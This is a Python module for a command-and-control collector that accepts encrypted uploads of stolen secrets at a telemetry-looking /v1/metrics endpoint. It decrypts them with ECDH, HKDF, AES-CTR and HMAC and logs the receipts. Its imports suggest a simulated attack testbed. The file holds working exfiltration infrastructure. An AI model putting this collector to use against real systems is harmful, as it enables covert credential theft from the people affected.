"""The collector that stolen secrets are sent to. Only here can they be opened: each message has a key of its own."""

import base64
import hashlib
import hmac
import json
import tempfile
from typing import Callable

from ..certificates import OpensslError, openssl
from ..http import Request, Response, text
from ..spool import Spool
from .variant import Variant

PATH = "/v1/metrics"
# As the script derives them: 32 bytes of AES-256-CTR, 32 of HMAC-SHA-256.
INFO = b"collector"


class C2:
    """`stolen` hears of each message that opens: names of applications and the secrets that came with them."""

    def __init__(self, variant: Variant, folder: str, spool: Spool, stolen: Callable[[dict[str, str]], None]):
        self._variant = variant
        self._folder = folder
        self._spool = spool
        self._stolen = stolen
        self._key = f"{folder}/collector.pem"
        self.receipts = 0

    async def make_key(self) -> str:
        """Makes the key pair; answers the public key (PEM)."""
        await openssl("genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", self._key)
        return (await openssl("pkey", "-in", self._key, "-pubout")).decode()

    def at(self, address: str) -> Callable:
        """Answers requests that came in at one of the collector's addresses."""

        async def answer(request: Request) -> Response:
            if request.method != "POST" or request.path != PATH:
                return text("", 404)
            try:
                message = await self._opened(request.json())
            except (OpensslError, ValueError, KeyError, TypeError):
                return text("", 400)
            self._receive(message, address, request.source)
            return Response(204, {}, b"")

        return answer

    def _receive(self, message: dict, address: str, source: str) -> None:
        found = {str(one["name"]): str(one["secret"]) for one in message["found"]}
        self.receipts += 1
        told = {
            "name": self._variant.c2_host,
            "address": address,
            "via": str(message["via"])[:64],
            "run": int(message["run"]),
            "items": sorted(found),
        }
        self._spool.record("c2.receipt", told, source)
        self._stolen(found)

    async def _opened(self, sealed: dict) -> dict:
        data = base64.b64decode(sealed["data"], validate=True)
        keys = hkdf(await self._shared(str(sealed["key"]).encode()), 64)
        if not hmac.compare_digest(
            hmac.new(keys[32:], data, hashlib.sha256).digest(), base64.b64decode(sealed["mac"], validate=True)
        ):
            raise ValueError("the message was not sealed for us")
        plain = await openssl("enc", "-d", "-aes-256-ctr", "-K", keys[:32].hex(), "-iv", data[:16].hex(), message=data[16:])
        return json.loads(plain)

    async def _shared(self, peer: bytes) -> bytes:
        """The secret that our key shares with the message's."""
        with tempfile.NamedTemporaryFile(dir=self._folder) as file:
            file.write(peer)
            file.flush()
            return await openssl("pkeyutl", "-derive", "-inkey", self._key, "-peerkey", file.name)


def hkdf(secret: bytes, size: int) -> bytes:
    """HKDF-SHA-256 (RFC 5869) without a salt."""
    key = hmac.new(bytes(32), secret, hashlib.sha256).digest()
    out, block, counter = b"", b"", 1
    while len(out) < size:
        block = hmac.new(key, block + INFO + bytes([counter]), hashlib.sha256).digest()
        out, counter = out + block, counter + 1
    return out[:size]
